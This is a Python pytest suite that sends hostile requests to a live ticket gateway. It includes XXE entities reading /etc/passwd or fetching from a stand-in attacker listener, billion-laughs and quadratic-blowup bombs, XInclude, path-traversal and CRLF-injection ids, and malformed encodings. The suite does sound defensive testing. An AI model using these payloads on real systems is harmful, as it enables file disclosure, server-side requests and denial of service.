"""Hostile input against the real gateway process: each request gets a clear 4xx or SOAP Fault for a bounded CPU
time and bounded memory, nothing is fetched from outside, and a good request succeeds right after.

The gateway runs as `python main.py -c <tmp>/gateway.yaml` (SQLite in a temporary folder, no simulators,
no workers). Memory is the growth of the process's peak resident set (VmHWM) over one request: the body
is at most 1 MiB, so a parser that expanded entities or built a huge tree would show here.
tests/soap/test_soap_hostile.py and tests/adapters/test_inbound_push.py check the routes' messages in
detail on in-process apps; this suite checks the whole list, every body endpoint, on the served process.
"""

from __future__ import annotations

import json
import select
import socket
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest
from lxml import etree

from adapters.config import AdapterConfigError
from adapters.loading import load_adapters
from adapters.wire.envelope import SOAP11_ENV, SOAP12_ENV
from adapters.wire.webhooks import WebhookSigner
from adapters.wire.wsse import username_token
from gateway.http.wsdl import TNS
from simulators.peer import encode_json, fresh_number, load_fixtures, with_fresh_number
from tests.hardening.live_gateway import (
    CITY,
    CONFIG,
    GatewayFiles,
    GatewayProcess,
    cpu_seconds,
    rss_kib,
    running,
    serve,
    write_config,
)
from tests.sample_tickets import ticket_data

MAX_BODY = 1_048_576
BODY_TIMEOUT = 1.5  # server.body_timeout_seconds of the gateway under test
# The gateway's CPU time over one hostile request: a refusal takes milliseconds; a parser that expanded entities,
# backtracked or built a huge tree would show here. CPU, not the wall clock, which a loaded machine stretches.
WORK_CPU_SECONDS = 2.0
WAIT_SECONDS = 60.0  # how long a client waits for an answer: a wait for a hung gateway, not a bound on its speed
PEAK_GROWTH_KIB = 64 * 1024  # growth of the process's peak RSS over one hostile request
RSS_GROWTH_KIB = 160 * 1024  # resident memory after the whole suite, over the first measure
SOAP_USER = "gz-12345"  # options.inbound_wsse.username of config/adapters/province-12345-soap.yaml
CITY_SEED = load_fixtures(CITY)["01-food-complaint"]
DEEP = 100_000


class Attacker:
    """A TCP listener standing for an attacker's server: any connection to it means something was fetched."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, name="attacker", daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.sock.getsockname()[1]}"

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@dataclass
class Live:
    """The gateway under attack, the attacker's server, and what the suite measured."""

    files: GatewayFiles
    process: GatewayProcess
    attacker: Attacker
    baseline_rss_kib: int
    # One client, a fresh connection per request: a hostile request must not spoil the next one's connection.
    http: httpx.Client = field(default_factory=lambda: httpx.Client(
        timeout=WAIT_SECONDS, trust_env=False, limits=httpx.Limits(max_keepalive_connections=0)))
    worst: dict[str, tuple[float, int]] = field(default_factory=dict)  # case → (CPU seconds, peak growth KiB)

    @property
    def url(self) -> str:
        return self.files.url

    @property
    def city_key(self) -> str:
        return self.files.credentials["PARTNER_CITY12345_API_KEY"]

    @property
    def soap_password(self) -> str:
        return self.files.credentials["PARTNER_PROVINCE12345_INBOUND_PASSWORD"]

    @property
    def operator(self) -> str:
        return self.files.ops_tokens["operator"]

    def signed(self, body: bytes) -> dict[str, str]:
        """Standard Webhooks headers of the national platform for `body`."""
        signer = WebhookSigner([self.files.env["HIG_NATIONAL_STATUS_SECRETS"]])
        return {"Content-Type": "application/json", **signer.sign(f"msg_{uuid.uuid4().hex}", None, body)}

    def security(self) -> str:
        return etree.tostring(username_token(SOAP_USER, self.soap_password), encoding="unicode")


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    files = write_config(tmp_path_factory.mktemp("hostile"), workers=False, pollers=False, max_body_bytes=MAX_BODY,
                         body_timeout_seconds=BODY_TIMEOUT)
    attacker = Attacker()
    try:
        with running(serve(files)) as process:
            target = Live(files, process, attacker, rss_kib(process.pid)[0])
            yield target
            target.http.close()
            assert process.alive(), process.tail()
            rss, peak = rss_kib(process.pid)
            worst = max(target.worst.items(), key=lambda kv: kv[1][1], default=("-", (0.0, 0)))
            slowest = max(target.worst.items(), key=lambda kv: kv[1][0], default=("-", (0.0, 0)))
            print(f"\nhostile input: {len(target.worst)} requests; costliest {slowest[0]} {slowest[1][0]:.3f} CPU s; "
                  f"largest peak growth {worst[0]} {worst[1][1]} KiB; RSS {target.baseline_rss_kib} -> {rss} KiB, "
                  f"peak {peak} KiB; attacker connections {attacker.connections}")
            assert rss - target.baseline_rss_kib < RSS_GROWTH_KIB
            assert "Traceback" not in process.log_text(), process.tail(6000)
    finally:
        attacker.close()


# -- requests ---------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Request:
    method: str
    path: str
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Answer:
    status: int
    headers: httpx.Headers
    body: bytes
    cpu_seconds: float  # the gateway's, over the request
    peak_growth_kib: int

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")

    def fault(self) -> tuple[str, str]:
        """faultcode and faultstring of a SOAP 1.1 Fault answer."""
        root = etree.fromstring(self.body)
        fault = root.find(f"{{{SOAP11_ENV}}}Body/{{{SOAP11_ENV}}}Fault")
        assert fault is not None, self.text[:500]
        return fault.findtext("faultcode") or "", fault.findtext("faultstring") or ""


def send(live: Live, name: str, request: Request) -> Answer:
    """One request on a fresh connection; its time and the growth of the gateway's peak memory are recorded."""
    before = cost_now(live)
    response = live.http.request(request.method, live.url + request.path, content=request.body,
                                 headers=request.headers)
    answer = answered(live, response, before)
    live.worst[name] = (answer.cpu_seconds, answer.peak_growth_kib)
    return answer


def cost_now(live: Live) -> tuple[float, int]:
    """The gateway's CPU time and peak resident memory so far."""
    return cpu_seconds(live.process.pid), rss_kib(live.process.pid)[1]


def answered(live: Live, response: httpx.Response, before: tuple[float, int]) -> Answer:
    """The answer, with what it cost the gateway since `before`."""
    cpu, peak = cost_now(live)
    return Answer(response.status_code, response.headers, response.content, cpu - before[0], peak - before[1])


def assert_bounded(answer: Answer) -> None:
    assert answer.cpu_seconds < WORK_CPU_SECONDS, f"took {answer.cpu_seconds:.2f} s of the gateway's CPU"
    assert answer.peak_growth_kib < PEAK_GROWTH_KIB, f"peak memory grew by {answer.peak_growth_kib} KiB"


def good_city_push(live: Live) -> Request:
    body = encode_json(with_fresh_number(CITY_SEED, ("hotlineNo",)))
    return Request("POST", f"/api/v1/inbound/{CITY}/tickets", body,
                   {"Content-Type": "application/json; charset=utf-8", "X-Api-Key": live.city_key})


COMPLAINT = "来电人反映在凯里市某商场购买的羽绒服掉毛严重，商家拒绝退货。"


def order(infoid: str | None = None, content: str = COMPLAINT) -> str:
    infoid = infoid or fresh_number("GZ12345-20240330-000000")
    return (f"<order><infoid>{infoid}</infoid><visittime>2024/03/30 10:00</visittime><way>来电</way>"
            "<aim>投诉</aim><questiontype>市场监管_消费维权_商品质量</questiontype>"
            f"<content>{content}</content><request>要求退货</request>"
            "<visitorname>张桂芬</visitorname><mobilephone>13985512345</mobilephone>"
            "<visitoraddress>凯里市大十字街道文化北路9号</visitoraddress><questionarea>凯里市</questionarea>"
            "<objectname>凯里市某商场</objectname><objectaddress>凯里市韶山南路1号</objectaddress></order>")


def envelope(live: Live, body: str, *, prolog: str = "", namespace: str = SOAP11_ENV) -> str:
    return (f'{prolog}<soap:Envelope xmlns:soap="{namespace}"><soap:Header>{live.security()}</soap:Header>'
            f"<soap:Body>{body}</soap:Body></soap:Envelope>")


def submit(inner: str) -> str:
    return f'<SubmitTicket xmlns="{TNS}">{inner}</SubmitTicket>'


def soap(body: bytes, content_type: str = "text/xml; charset=utf-8", adapter_id: str = "province-12345-soap"
         ) -> Request:
    return Request("POST", f"/soap/{adapter_id}", body, {"Content-Type": content_type})


def good_soap_push(live: Live) -> Request:
    return soap(envelope(live, submit(order())).encode())


def assert_still_serving(live: Live) -> None:
    """The process is alive and a good push of each kind is stored."""
    assert live.process.alive(), live.process.tail()
    rest = send(live, "good-rest", good_city_push(live))
    assert rest.status == 202, rest.text
    answer = send(live, "good-soap", good_soap_push(live))
    assert answer.status == 200, answer.text
    assert etree.fromstring(answer.body).findtext(f".//{{{TNS}}}status") == "created"


def test_the_good_requests_work(live: Live) -> None:
    assert_still_serving(live)


# -- XML: entities, DTDs, encodings, envelopes --------------------------------------------------------------
def _laughs(levels: int = 10) -> str:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, levels))
    return f"<!DOCTYPE lolz [{entities}]>"


SoapBuilder = Callable[[Live], Request]
SOAP_CASES: dict[str, tuple[SoapBuilder, str]] = {
    # name: (request, a phrase the faultstring must contain: the Chinese sentence a partner reads)
    "xxe-file": (lambda live: soap(envelope(live, submit(order("&xxe;")), prolog=(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')).encode()), "DOCTYPE"),
    "xxe-http": (lambda live: soap(envelope(live, submit(order("&xxe;")), prolog=(
        f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{live.attacker.url}/secret">]>')).encode()), "DOCTYPE"),
    "external-dtd": (lambda live: soap(envelope(live, submit(order()), prolog=(
        f'<!DOCTYPE soap:Envelope SYSTEM "{live.attacker.url}/evil.dtd">')).encode()), "DOCTYPE"),
    "parameter-entity": (lambda live: soap(envelope(live, submit(order()), prolog=(
        f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{live.attacker.url}/p.dtd"> %p;]>')).encode()), "DOCTYPE"),
    "billion-laughs": (lambda live: soap(envelope(live, submit(order("&lol9;")), prolog=_laughs()).encode()),
                       "DOCTYPE"),
    "quadratic-blowup": (lambda live: soap(envelope(live, submit(order(content="&a;" * 20_000)), prolog=(
        '<!DOCTYPE q [<!ENTITY a "' + "A" * 40_000 + '">]>')).encode()), "DOCTYPE"),
    "doctype-in-utf16": (lambda live: soap(envelope(live, submit(order("&lol9;")), prolog=_laughs()).encode("utf-16"),
                                           "text/xml"), "DOCTYPE"),
    "doctype-after-comment": (lambda live: soap(envelope(live, submit(order()), prolog=(
        '<!-- x --><!DOCTYPE x [<!ENTITY e "e">]>')).encode()), "DOCTYPE"),
    "truncated-xml": (lambda live: soap(envelope(live, submit(order())).encode()[:700]), "不是格式正确的 XML"),
    "empty-body": (lambda live: soap(b""), "请求体为空"),
    "not-xml": (lambda live: soap(b'{"infoid": 1}'), "不是格式正确的 XML"),
    "malformed-utf8": (lambda live: soap(envelope(live, submit(order())).encode().replace(
        "羽绒服".encode(), b"\xe7\xbe")), "请求体不是有效的"),
    "overlong-utf8": (lambda live: soap(envelope(live, submit(order())).encode().replace(
        b"<content>", b"<content>\xc0\xbcscript\xc0\xbe")), "请求体不是有效的"),
    "utf8-surrogate": (lambda live: soap(envelope(live, submit(order())).encode().replace(
        b"<content>", b"<content>\xed\xa0\x80")), "请求体不是有效的"),
    "malformed-gbk": (lambda live: soap(envelope(live, submit(order()), prolog='<?xml version="1.0" encoding="GBK"?>')
                                        .encode("gbk").replace("羽绒服".encode("gbk"), b"\x81\x20\xff"),
                                        "text/xml"), "不是有效的 GBK"),
    "gbk-lead-byte-at-end": (lambda live: soap(envelope(live, submit(order())).encode("gbk") + b"\x81",
                                               "text/xml; charset=GBK"), "不是有效的 GBK"),
    "odd-length-utf16": (lambda live: soap(b"\xff\xfe" + envelope(live, submit(order())).encode("utf-16-le")[:-1],
                                           "text/xml"), "不是有效的"),
    "unknown-charset": (lambda live: soap(envelope(live, submit(order())).encode(), "text/xml; charset=zlib"),
                        "不支持的字符编码"),
    "control-character-reference": (lambda live: soap(envelope(live, submit(order(content="a&#x1;b"))).encode()),
                                    "不是格式正确的 XML"),
    "wrong-operation-namespace": (lambda live: soap(envelope(
        live, f'<SubmitTicket xmlns="http://tempuri.org/">{order()}</SubmitTicket>').encode()), TNS),
    "operation-without-namespace": (lambda live: soap(envelope(
        live, f"<SubmitTicket>{order()}</SubmitTicket>").encode()), "(none)"),
    "unknown-operation": (lambda live: soap(envelope(live, f'<DeleteAllTickets xmlns="{TNS}"/>').encode()),
                          "未知操作 DeleteAllTickets"),
    "two-operations": (lambda live: soap(envelope(live, submit(order()) + submit(order())).encode()),
                       "恰好有一个操作元素"),
    "envelope-wrong-namespace": (lambda live: soap(envelope(live, submit(order()),
                                                            namespace="http://example.org/soap/").encode()),
                                 "中的 SOAP 1.1 Envelope"),
    "soap12-envelope": (lambda live: soap(envelope(live, submit(order()), namespace=SOAP12_ENV).encode(),
                                          "application/soap+xml"), "SOAP 1.2"),
    "deep-xml": (lambda live: soap(envelope(live, submit(
        "<order>" + "<a>" * DEEP + "</a>" * DEEP + "</order>")).encode()[:MAX_BODY - 1]), ""),
    "deep-xml-under-limit": (lambda live: soap(envelope(live, submit(
        "<order><attachments>" + "<a>" * 20_000 + "</a>" * 20_000 + "</attachments></order>")).encode()), ""),
    "namespace-flood": (lambda live: soap(envelope(live, submit(order())).replace(
        "<soap:Envelope ", "<soap:Envelope" + "".join(f' xmlns:n{i}="u:{i}"' for i in range(40_000)) + " ", 1)
        .encode()), "XML 命名空间"),
    "no-security-header": (lambda live: soap(
        f'<soap:Envelope xmlns:soap="{SOAP11_ENV}"><soap:Body>{submit(order())}</soap:Body></soap:Envelope>'
        .encode()), "Security"),
}


@pytest.mark.parametrize("case", list(SOAP_CASES))
def test_hostile_soap_gets_a_client_fault(live: Live, case: str) -> None:
    build, phrase = SOAP_CASES[case]
    connections = live.attacker.connections
    answer = send(live, f"soap:{case}", build(live))
    assert answer.status == 500, answer.text[:500]
    code, message = answer.fault()
    assert code in ("soap:Client", "soap:VersionMismatch"), message
    assert phrase in message
    assert b"root:" not in answer.body
    assert_bounded(answer)
    assert live.attacker.connections == connections, "the gateway fetched something from the attacker's server"
    assert_still_serving(live)


def test_an_xinclude_is_not_processed(live: Live) -> None:
    connections = live.attacker.connections
    include = (f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{live.attacker.url}/x" '
               'parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
               'parse="text"/>')
    answer = send(live, "soap:xinclude", soap(envelope(live, submit(order(content=include))).encode()))
    assert answer.status in (200, 500), answer.text[:500]  # stored as sent, or refused: never followed
    assert b"root:" not in answer.body
    assert live.attacker.connections == connections
    assert_bounded(answer)


@pytest.mark.parametrize("chunked", [False, True], ids=["declared", "chunked"])
def test_an_oversize_soap_body_is_413_with_a_fault(live: Live, chunked: bool) -> None:
    body = envelope(live, submit(order(content="投" * MAX_BODY))).encode()
    request = soap(body)
    answer = _send_chunked(live, request) if chunked else send(live, "soap:oversize", request)
    assert answer.status == 413
    assert answer.fault()[0] == "soap:Client"
    assert_bounded(answer)
    assert_still_serving(live)


# -- JSON endpoints: the partner push, the national status, the ops API --------------------------------------
JsonBuilder = Callable[[Live, bytes], Request]


def _inbound(live: Live, body: bytes) -> Request:
    return Request("POST", f"/api/v1/inbound/{CITY}/tickets", body,
                   {"Content-Type": "application/json", "X-Api-Key": live.city_key})


def _inbound_gbk(live: Live, body: bytes) -> Request:
    return Request("POST", f"/api/v1/inbound/{CITY}/tickets", body,
                   {"Content-Type": "application/json; charset=GBK", "X-Api-Key": live.city_key})


def _national(live: Live, body: bytes) -> Request:
    return Request("POST", "/api/v1/national/status", body, live.signed(body))


def _national_unsigned(live: Live, body: bytes) -> Request:
    return Request("POST", "/api/v1/national/status", body, {"Content-Type": "application/json"})


def _replay(live: Live, body: bytes) -> Request:
    return Request("POST", "/api/v1/deliveries/replay", body,
                   {"Content-Type": "application/json", "Authorization": f"Bearer {live.operator}"})


def _replay_anonymous(live: Live, body: bytes) -> Request:
    return Request("POST", "/api/v1/deliveries/replay", body, {"Content-Type": "application/json"})


def _login(live: Live, body: bytes) -> Request:
    return Request("POST", "/ops/login", body, {"Content-Type": "application/x-www-form-urlencoded"})


JSON_ENDPOINTS: dict[str, JsonBuilder] = {
    "inbound": _inbound, "national-status": _national, "national-status-unsigned": _national_unsigned,
    "ops-replay": _replay, "ops-replay-anonymous": _replay_anonymous,
}
CITY_BODY = encode_json(CITY_SEED)
JSON_BODIES: dict[str, bytes] = {
    "deep-arrays": b"[" * DEEP + b"]" * DEEP,
    "deep-objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "deep-in-a-field": CITY_BODY[:-1] + b',"appealContent":' + b"[" * 5_000 + b"]" * 5_000 + b"}",
    "truncated": CITY_BODY[: len(CITY_BODY) // 2],
    "empty": b"",
    "malformed-utf8": CITY_BODY.replace("投诉".encode(), b"\xe6\x8a"),
    "overlong-utf8": CITY_BODY.replace(b'"hotlineNo"', b'"hotline\xc0\xaeNo"'),
    "encoded-surrogate": CITY_BODY.replace("投诉".encode(), b"\xed\xa0\x80"),
    "lone-surrogate-escape": CITY_BODY[:-1] + b',"contactName":"\\ud800"}',
    "huge-integer": CITY_BODY[:-1] + b',"hotlineId":1' + b"0" * 5_000 + b"}",
    "nan": CITY_BODY[:-1] + b',"goods":{"amount":NaN}}',
    "nul-and-controls": CITY_BODY.replace(b'"hotlineNo":"', b'"hotlineNo":"\x00\x1b[2J'),
    # JSON syntax, but past what a double holds: Python reads them as ±inf, which no JSON answer can carry.
    "overflow-in-a-field": CITY_BODY.replace(b'"appealContent":', b'"appealContent":1e999,"x":', 1),
    "negative-overflow-nested": CITY_BODY[:-1] + b',"goods":{"amount":-1e400},"sequence":1e999}',
    "overflow-everywhere": b'{"sequence":1e999,"ids":[1e999],"event_id":-1e400,"dry_run":1e999}',
}
# What each endpoint may answer: a clear refusal, never a 5xx.
CLEAR = {400, 401, 403, 404, 413, 415, 422}


@pytest.mark.parametrize("body_name", list(JSON_BODIES))
@pytest.mark.parametrize("endpoint", list(JSON_ENDPOINTS))
def test_hostile_json_gets_a_clear_4xx(live: Live, endpoint: str, body_name: str) -> None:
    answer = send(live, f"{endpoint}:{body_name}", JSON_ENDPOINTS[endpoint](live, JSON_BODIES[body_name]))
    assert answer.status in CLEAR, answer.text[:500]
    assert answer.headers.get("content-type", "").startswith("application/json"), answer.headers
    assert_bounded(answer)
    if endpoint == "inbound":  # the partner is told what is wrong, not to retry
        assert answer.status in (400, 422), answer.text[:500]
    if endpoint.endswith(("unsigned", "anonymous")) and body_name != "deep-arrays":
        assert answer.status in (400, 401, 422)


def _quarantined(live: Live) -> int:
    response = live.http.get(f"{live.url}/api/v1/quarantine", params={"limit": 500},
                             headers={"Authorization": f"Bearer {live.operator}"})
    assert response.status_code == 200, response.text
    return len(response.json())


@pytest.mark.parametrize("number", [b"1e999", b"-1e400"])
def test_an_overflowing_number_is_400_and_retries_keep_nothing(live: Live, number: bytes) -> None:
    body = CITY_BODY.replace(b'"appealContent":', b'"appealContent":' + number + b',"was":', 1)
    before = _quarantined(live)
    for attempt in range(3):  # the partner retries as it would after a 5xx
        answer = send(live, f"inbound:overflow-{attempt}", _inbound(live, body))
        assert answer.status == 400, answer.text
        assert answer.headers["content-type"] == "application/json"
        assert "out of range" in answer.text and number.decode() in answer.text
    assert _quarantined(live) == before
    assert_still_serving(live)


def test_an_overflowing_number_in_a_status_event_is_422_naming_the_field(live: Live) -> None:
    body = b'{"event_id":"e1","ticket_id":"t1","sequence":1e999,"at":"2024-03-30T10:00:00+08:00","status":"ACCEPTED"}'
    answer = send(live, "national:overflow", _national(live, body))
    assert answer.status == 422, answer.text
    sequence = [e for e in json.loads(answer.body)["errors"] if e["field"] == "sequence"]
    assert sequence and sequence[0]["value"] == "inf", answer.text


@pytest.mark.parametrize("charset", ["x-gbk", "X-GBK", "cp936", "euc-cn", "GB2312", "gb18030"])
def test_a_soap_push_in_any_gbk_label_is_answered_in_that_character_set(live: Live, charset: str) -> None:
    text = envelope(live, submit(order()))
    answer = send(live, f"soap:charset-{charset}", soap(text.encode("gb18030"), f"text/xml; charset={charset}"))
    assert answer.status == 200, answer.text[:500]
    answered = answer.headers["content-type"].partition("charset=")[2]
    assert answered.lower() in ("gbk", "gb2312", "gb18030"), answer.headers
    assert etree.fromstring(answer.body).findtext(f".//{{{TNS}}}status") == "created"


def test_a_wrong_password_in_x_gbk_gets_a_fault_in_gbk(live: Live) -> None:
    wrong = etree.tostring(username_token(SOAP_USER, "not-the-password"), encoding="unicode")
    text = (f'<soap:Envelope xmlns:soap="{SOAP11_ENV}"><soap:Header>{wrong}</soap:Header>'
            f"<soap:Body>{submit(order())}</soap:Body></soap:Envelope>")
    answer = send(live, "soap:x-gbk-wrong-password", soap(text.encode("gbk"), "text/xml; charset=x-gbk"))
    assert answer.status == 500
    assert answer.headers["content-type"] == "text/xml; charset=GBK"
    code, _ = answer.fault()
    assert code == "soap:Client"
    assert_still_serving(live)


# The control-character policy (contracts/base.py, docs/integrators.md): refused wherever the text is, and named.
@pytest.mark.parametrize("control", ["\\u0000", "\\u001b[2J", "\\u007f", "\\u0085"], ids=["nul", "escape", "del", "c1"])
def test_an_escaped_control_character_in_a_text_field_is_refused_naming_the_field(live: Live, control: str) -> None:
    seed = with_fresh_number(CITY_SEED, ("hotlineNo",))
    body = encode_json(seed).replace(b'"appealContent":"', b'"appealContent":"' + control.encode() + b"", 1)
    assert control.encode() in body
    answer = send(live, f"inbound:control-{control}", _inbound(live, body))
    assert answer.status == 422, answer.text
    errors = json.loads(answer.body)["errors"]
    assert [(e["source_path"], e["rule"]) for e in errors] == [("appealContent", "control_character")], errors
    assert "控制字符" in errors[0]["message"] and "U+00" in errors[0]["message_en"]


def test_a_control_character_in_a_canonical_ticket_is_refused(live: Live) -> None:
    payload = ticket_data("complaint", no=f"NAT-{time.time_ns()}")
    payload["source"].update(source_system="canonical", adapter_id="canonical")
    payload["registration"]["title"] = "羽绒服\u0000掉毛"
    key = live.files.credentials["PARTNER_CANONICAL_API_KEY"]
    request = Request("POST", "/api/v1/inbound/canonical/tickets", encode_json(payload),
                      {"Content-Type": "application/json", "X-Api-Key": key})
    answer = send(live, "canonical:control", request)
    assert answer.status == 422, answer.text
    assert [e["rule"] for e in json.loads(answer.body)["errors"]] == ["control_character"]


def test_a_control_character_in_a_status_event_is_refused(live: Live) -> None:
    body = (b'{"event_id":"e-ctl","ticket_id":"t1","sequence":1,"at":"2024-03-30T10:00:00+08:00",'
            b'"status":"ACCEPTED","opinion":"\\u001b]0;owned\\u0007"}')
    answer = send(live, "national:control", _national(live, body))
    assert answer.status == 422, answer.text
    errors = json.loads(answer.body)["errors"]
    assert [(e["field"], e["rule"]) for e in errors] == [("opinion", "control_character")], answer.text
    assert "U+001B" in errors[0]["message_en"]
    assert errors[0]["message"] == "opinion：含有不允许的控制字符（U+001B）"  # Chinese first


def test_malformed_gbk_json_is_400(live: Live) -> None:
    body = CITY_BODY.decode().encode("gb18030").replace("投诉".encode("gbk"), b"\x81\x20")
    answer = send(live, "inbound:malformed-gbk", _inbound_gbk(live, body))
    said = json.loads(answer.body)
    assert (answer.status, said["message_en"].count("not valid gbk")) == (400, 1), answer.text
    assert said["message"].startswith("请求体不是有效的 JSON"), said  # Chinese first, the detail as the parser said it
    assert_still_serving(live)


@pytest.mark.parametrize("charset", ["zlib", "base64", "rot13", "punycode", "x-klingon"])
def test_a_charset_that_is_no_text_encoding_is_400(live: Live, charset: str) -> None:
    request = Request("POST", f"/api/v1/inbound/{CITY}/tickets", CITY_BODY,
                      {"Content-Type": f"application/json; charset={charset}", "X-Api-Key": live.city_key})
    answer = send(live, f"inbound:charset-{charset}", request)
    assert answer.status == 400, answer.text


@pytest.mark.parametrize("endpoint", [*JSON_ENDPOINTS, "ops-login"])
@pytest.mark.parametrize("chunked", [False, True], ids=["declared", "chunked"])
def test_an_oversize_body_is_413_on_every_endpoint(live: Live, endpoint: str, chunked: bool) -> None:
    build = {**JSON_ENDPOINTS, "ops-login": _login}[endpoint]
    body = b'{"a":"' + b"x" * (8 * MAX_BODY) + b'"}'
    if endpoint == "ops-login":
        body = b"token=" + b"x" * (8 * MAX_BODY)
    request = build(live, body)
    answer = _send_chunked(live, request) if chunked else send(live, f"{endpoint}:oversize", request)
    assert answer.status == 413, answer.text[:300]
    assert_bounded(answer)
    assert_still_serving(live)


def _send_chunked(live: Live, request: Request) -> Answer:
    """The body in 64 KiB chunks without a Content-Length, as a streaming client sends it."""
    def chunks() -> Iterator[bytes]:
        for start in range(0, len(request.body), 65536):
            yield request.body[start:start + 65536]

    before = cost_now(live)
    try:
        response = live.http.request(request.method, live.url + request.path, content=chunks(),
                                     headers=request.headers)
    except (httpx.WriteError, httpx.RemoteProtocolError, httpx.ReadError) as err:
        pytest.fail(f"the gateway cut the connection instead of answering 413: {err!r}")
    return answered(live, response, before)


# -- bodies cut off: the sender goes away, or stalls --------------------------------------------------------
def _raw_head(path: str, headers: dict[str, str], length: int) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: 127.0.0.1", f"Content-Length: {length}",
             *(f"{k}: {v}" for k, v in headers.items())]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


@pytest.mark.parametrize("endpoint", ["inbound", "soap", "national-status", "ops-replay"])
def test_a_body_cut_off_by_the_sender_is_dropped_quietly(live: Live, endpoint: str) -> None:
    full = CITY_BODY if endpoint != "soap" else envelope(live, submit(order())).encode()
    request = (good_soap_push(live) if endpoint == "soap" else JSON_ENDPOINTS[endpoint](live, full))
    headers = {k: v for k, v in request.headers.items() if k.lower() != "content-length"}
    with socket.create_connection(("127.0.0.1", live.files.port), timeout=WAIT_SECONDS) as sock:
        sock.sendall(_raw_head(request.path, headers, len(request.body)) + request.body[: len(request.body) // 2])
        sock.shutdown(socket.SHUT_WR)
        leftover = sock.recv(65536)  # the gateway closes; there is no one to answer
    assert leftover == b"" or leftover.startswith(b"HTTP/1.1 4"), leftover[:200]
    assert_still_serving(live)


def test_a_stalled_body_does_not_hold_up_other_requests(live: Live) -> None:
    request = good_city_push(live)
    with socket.create_connection(("127.0.0.1", live.files.port), timeout=WAIT_SECONDS) as stalled:
        stalled.sendall(_raw_head(request.path, dict(request.headers), len(request.body) + 100) + request.body)
        for _ in range(3):  # meanwhile, others are served as usual
            answer = send(live, "while-stalled", good_city_push(live))
            assert answer.status == 202
            assert_bounded(answer)


@pytest.mark.parametrize("trickle", [False, True], ids=["stalled", "trickled"])
@pytest.mark.parametrize("endpoint", ["inbound", "soap", "national-status", "ops-replay"])
def test_a_body_that_does_not_arrive_in_time_is_408(live: Live, endpoint: str, trickle: bool) -> None:
    full = CITY_BODY if endpoint != "soap" else envelope(live, submit(order())).encode()
    request = (good_soap_push(live) if endpoint == "soap" else JSON_ENDPOINTS[endpoint](live, full))
    headers = {k: v for k, v in request.headers.items() if k.lower() != "content-length"}
    with socket.create_connection(("127.0.0.1", live.files.port), timeout=WAIT_SECONDS) as sock:
        started = time.monotonic()
        sock.sendall(_raw_head(request.path, headers, len(request.body)) + request.body[:100])
        answer = b""
        for byte in request.body[100:160] if trickle else b"":  # a byte every 0.1 s: alive, but far too slow
            time.sleep(0.1)
            try:
                sock.sendall(bytes([byte]))
            except OSError:  # closed on us after its answer
                break
        while not answer.endswith((b"}", b"Envelope>")):
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
        took = time.monotonic() - started
    assert answer.startswith(b"HTTP/1.1 408"), answer[:300]
    if endpoint == "soap":  # a SOAP client reads a Fault, not JSON
        head, _, xml = answer.partition(b"\r\n\r\n")
        assert b"content-type: text/xml" in head.lower(), head
        assert etree.fromstring(xml).findtext(f".//{{{SOAP11_ENV}}}Fault/faultcode") == "soap:Client", xml
        assert b"request_timeout" in xml
    else:
        assert b'"request_timeout"' in answer
    assert took >= BODY_TIMEOUT - 0.2  # it waited for the body that long (a loaded machine only makes it longer)
    assert_still_serving(live)


# -- odd characters in ids and adapter names ---------------------------------------------------------------
ODD_IDS = {
    "traversal-encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "traversal-double-encoded": "..%252f..%252fetc%252fpasswd",
    "dot-dot": "%2e%2e",
    "backslashes": "..%5c..%5cwindows",
    "nul": "city-12345-rest%00",
    "crlf-injection": "x%0d%0aX-Injected:%201",
    "escape-sequence": "%1b%5b2J",
    "unicode": "%E5%B8%82%E7%BA%A712345",
    "right-to-left-override": "%E2%80%AEtser",
    "upper-case": "CITY-12345-REST",
    "long": "a" * 8_000,
}


@pytest.mark.parametrize("odd", list(ODD_IDS))
def test_odd_ids_and_adapter_names_get_404(live: Live, odd: str) -> None:
    raw = ODD_IDS[odd]
    viewer = {"Authorization": f"Bearer {live.files.ops_tokens['viewer']}"}
    requests = {
        "inbound": Request("POST", f"/api/v1/inbound/{raw}/tickets", CITY_BODY,
                           {"Content-Type": "application/json", "X-Api-Key": live.city_key}),
        "soap": soap(envelope(live, submit(order())).encode(), adapter_id=raw),
        "wsdl": Request("GET", f"/soap/{raw}?wsdl"),
        "ticket": Request("GET", f"/api/v1/tickets/{raw}", headers=viewer),
        "remap": Request("POST", f"/api/v1/quarantine/{raw}/remap",
                         headers={"Authorization": f"Bearer {live.operator}"}),
        "dashboard-ticket": Request("GET", f"/ops/tickets/{raw}", headers=viewer),
    }
    for where, request in requests.items():
        answer = send(live, f"odd-id:{odd}:{where}", request)
        assert answer.status == 404, (where, answer.status, answer.text[:300])
        assert "x-injected" not in answer.headers
        assert b"root:" not in answer.body
        assert_bounded(answer)
    assert_still_serving(live)


